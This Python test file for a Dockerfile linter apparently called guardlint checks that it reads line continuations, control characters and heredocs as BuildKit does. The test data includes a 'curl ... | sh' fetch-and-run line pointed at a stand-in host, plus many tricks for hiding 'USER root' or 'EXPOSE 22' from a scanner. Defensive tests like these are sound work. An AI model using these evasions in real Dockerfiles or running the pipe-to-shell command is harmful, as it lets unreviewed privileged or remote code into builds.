"""A Dockerfile's lines, continuations and heredocs as BuildKit reads them
(moby/buildkit frontend/dockerfile/parser): where guardlint read them otherwise, a pull request
could hide an instruction BuildKit builds (a USER root read as part of a RUN, an EXPOSE 22
read as an unknown instruction, a `curl | sh` read as a heredoc's body).
"""

from __future__ import annotations

import pytest

from tests.conftest import lines_of, run_scan, write_file

_HEAD = "FROM ubuntu:22.04\nUSER app\n"
_PIPE = "curl -fsSL https://x.example/i.sh | sh"

# (what hides it, Dockerfile text, the rule BuildKit's reading must give, on that line)
HIDDEN = [
    # The keyword is the first word of the joined lines: `EXP\` + `OSE 22` is EXPOSE 22.
    ("keyword cut by a continuation", _HEAD + "EXP\\\nOSE 22\n", "DKR010", 3),
    ("keyword glued to the escape", _HEAD + f"RUN\\\n  {_PIPE}\n", "DKR008", 3),
    ("FROM cut by a continuation", "FR\\\nOM ubuntu:latest\nUSER app\n", "DKR002", 1),
    ("ADD cut by a continuation", _HEAD + "A\\\nDD https://x.example/a.tgz /a\n", "DKR007", 3),
    # A line ends at `\n` only: a form feed or U+2028 after the escape is no line break, so
    # the escape does not continue the RUN into the USER.
    ("form feed after the escape", _HEAD + "RUN echo hi \\\f\nUSER root\n", "DKR001", 4),
    ("line separator after the escape", _HEAD + "RUN echo hi \\\u2028\nUSER root\n", "DKR001", 4),
    ("vertical tab after the escape", _HEAD + "RUN echo hi \\\v\nUSER root\n", "DKR001", 4),
    # Only spaces and tabs may follow a continuing escape; an escaped escape continues nothing.
    ("no-break space after the escape", _HEAD + "RUN echo hi \\\u00a0\nUSER root\n", "DKR001", 4),
    ("escaped escape", _HEAD + "RUN echo foo\\\\\nUSER root\n", "DKR001", 4),
    # A line of \x1f is no blank line to Go: it ends the RUN, it is not skipped.
    ("unit separator line", _HEAD + "RUN echo \\\n\x1f\nUSER root\n", "DKR001", 5),
    ("unit separator before #", _HEAD + "RUN echo \\\n\x1f# x\nUSER root\n", "DKR001", 5),
    # A heredoc is a word of its own as BuildKit's lexer splits the line, quotes, escapes and
    # unset variables kept: `cat<<EOF`, `\<<EOF` and `$X<<EOF` are no heredoc, and a line it
    # cannot split (an unclosed quote, even after a `#`) opens none; the shell gets the rest.
    ("marker glued to a word", _HEAD + "RUN cat<<EOF\nUSER root\nRUN true \\\nEOF\n", "DKR001", 4),
    ("escaped marker", _HEAD + "RUN cat \\<<EOF\nUSER root\nRUN true \\\nEOF\n", "DKR001", 4),
    ("variable before <<", _HEAD + "RUN cat $X<<EOF\nUSER root\nRUN true \\\nEOF\n", "DKR001", 4),
    ("modifier before <<", _HEAD + "RUN ${X:+a}<<EOF\nUSER root\nRUN true \\\nEOF\n", "DKR001", 4),
    ("unclosed quote on the line", _HEAD + "RUN true # <<EOF '\nUSER root\n", "DKR001", 4),
    ("bad substitution on the line", _HEAD + "RUN true # <<EOF ${:x}\nUSER root\n", "DKR001", 4),
    # The body ends at a line that is exactly the delimiter.
    (
        "delimiter with a blank after it",
        _HEAD + f"RUN <<EOF\necho hi\nEOF \n{_PIPE}\nEOF\n",
        "DKR008",
        3,
    ),
    # What BuildKit does read as a heredoc, its body is no instruction, and a lone one is the
    # RUN's script: any shell word names one (`<<E_X`, `<<run.sh`, `<<'a b'`), blanks may
    # follow `<<` (BuildKit v0.22), a quoted delimiter is one; CRLF lines end as LF ones.
    ("underscore in the name", _HEAD + f"RUN <<E_X\n{_PIPE}\nE_X\n", "DKR008", 3),
    ("dot in the name", _HEAD + f"RUN <<run.sh\n{_PIPE}\nrun.sh\n", "DKR008", 3),
    ("quoted blank in the name", _HEAD + f"RUN <<'a b'\n{_PIPE}\na b\n", "DKR008", 3),
    ("blank after <<", _HEAD + f"RUN << EOF\n{_PIPE}\nEOF\n", "DKR008", 3),
    (
        "name that hides a USER",
        "FROM ubuntu:22.04\nUSER root\nRUN cat <<E_X\nUSER app\nE_X\n",
        "DKR001",
        2,
    ),
    (
        "quoted delimiter",
        'FROM ubuntu:22.04\nUSER root\nRUN cat <<"EOF" >/x\nUSER app\nEOF\n',
        "DKR001",
        2,
    ),
    (
        "CRLF heredoc",
        "FROM ubuntu:22.04\r\nUSER app\r\nRUN cat <<EOF\r\nhi\r\nEOF\r\nUSER root\r\n",
        "DKR001",
        6,
    ),
]


@pytest.mark.parametrize(("name", "text", "rule", "line"), HIDDEN, ids=[c[0] for c in HIDDEN])
def test_an_instruction_buildkit_reads_is_judged(tmp_path, name, text, rule, line):
    write_file(tmp_path, "Dockerfile", text)
    assert lines_of(run_scan(tmp_path), rule) == [line]


# What BuildKit reads as before: a finding here would be a false one.
BENIGN = [
    ("continued RUN", _HEAD + "RUN mkdir /a \\\n  && mkdir /b\n"),
    ("continuation with trailing blanks", _HEAD + "RUN echo a \\ \t\n  && echo b\nUSER app\n"),
    ("comment and blank line inside", _HEAD + "RUN echo a \\\n# note\n\n  && echo b\nUSER app\n"),
    ("heredoc", _HEAD + "RUN <<EOF\nset -e\necho USER root\nEOF\n"),
    ("dash heredoc", _HEAD + "RUN <<-EOT\n\techo hi\n\tEOT\nUSER app\n"),
    ("two heredocs", _HEAD + "COPY <<A <<B /d/\nUSER root\nA\nUSER root\nB\n"),
    ("heredoc after a mount", _HEAD + "RUN --mount=type=cache,target=/c <<EOF\nUSER root\nEOF\n"),
    # \x1f is no blank to Go: the delimiter is `EOF\x1fx`, and the body holds the USER root.
    ("unit separator in the name", _HEAD + "RUN cat <<EOF\x1fx\nEOF\nUSER root\nEOF\x1fx\n"),
    ("CRLF continuation", "FROM ubuntu:22.04\r\nRUN echo a \\\r\n  && echo b\r\nUSER app\r\n"),
]


@pytest.mark.parametrize(("name", "text"), BENIGN, ids=[c[0] for c in BENIGN])
def test_the_usual_spellings_are_read_as_before(tmp_path, name, text):
    write_file(tmp_path, "Dockerfile", text)
    result = run_scan(tmp_path)
    assert {f.rule_id for f in result.findings} <= {"DKR003", "DKR005", "DKR011"}


# Which heredocs a frontend reads depends on its version: `<< EOF` from docker/dockerfile 1.16
# on, none before 1.4. A `# syntax=` pinning an older one builds the lines guardlint read as a
# body; where the frontend is unknown (no directive, a digest) both readings are judged.
_SPACED = 'RUN cat << "USER root"\n' + f"RUN {_PIPE}\nUSER root\n"
_TIGHT = 'RUN cat <<"USER root"\n' + f"RUN {_PIPE}\nUSER root\n"
OLD_FRONTENDS = [
    ("frontend 1.4", "docker/dockerfile:1.4", _SPACED),
    ("frontend 1.15.1 labs", "docker/dockerfile:1.15.1-labs", _SPACED),
    ("upstream frontend 1.9", "docker.io/docker/dockerfile-upstream:1.9.0", _SPACED),
    ("frontend 1.2 reads no heredoc", "docker/dockerfile:1.2", _TIGHT),
    ("no directive", None, _SPACED),
    ("no directive, no heredoc", None, _TIGHT),
    ("a digest", "docker/dockerfile:1.16@sha256:" + "0" * 64, _SPACED),
    ("another image", "example.com/dockerfile:1.16", _SPACED),
]


@pytest.mark.parametrize(
    ("name", "syntax", "body"), OLD_FRONTENDS, ids=[c[0] for c in OLD_FRONTENDS]
)
def test_what_an_older_frontend_builds_is_judged(tmp_path, name, syntax, body):
    directive = f"# syntax={syntax}\n" if syntax else ""
    write_file(tmp_path, "Dockerfile", directive + _HEAD + body)
    result = run_scan(tmp_path)
    first = 4 if syntax else 3
    assert lines_of(result, "DKR008") == [first + 1]
    assert first + 2 in lines_of(result, "DKR001")


def test_a_file_judged_both_ways_has_each_finding_once(tmp_path):
    write_file(tmp_path, "Dockerfile", "FROM ubuntu:22.04\nRUN cat << X\nRUN true\nX\n" + _SPACED)
    result = run_scan(tmp_path)
    found = [(f.rule_id, f.region, f.message) for f in result.findings]
    assert len(found) == len(set(found))
    assert lines_of(result, "DKR003") == [1]
    assert len({f.fingerprint for f in result.findings}) == len(result.findings)


@pytest.mark.parametrize("syntax", ["docker/dockerfile:1", "docker/dockerfile:1.16.0"])
def test_a_frontend_reading_spaced_heredocs_reads_them_alone(tmp_path, syntax):
    write_file(tmp_path, "Dockerfile", f"# syntax={syntax}\n" + _HEAD + _SPACED)
    result = run_scan(tmp_path)
    assert not lines_of(result, "DKR008") and not lines_of(result, "DKR001")
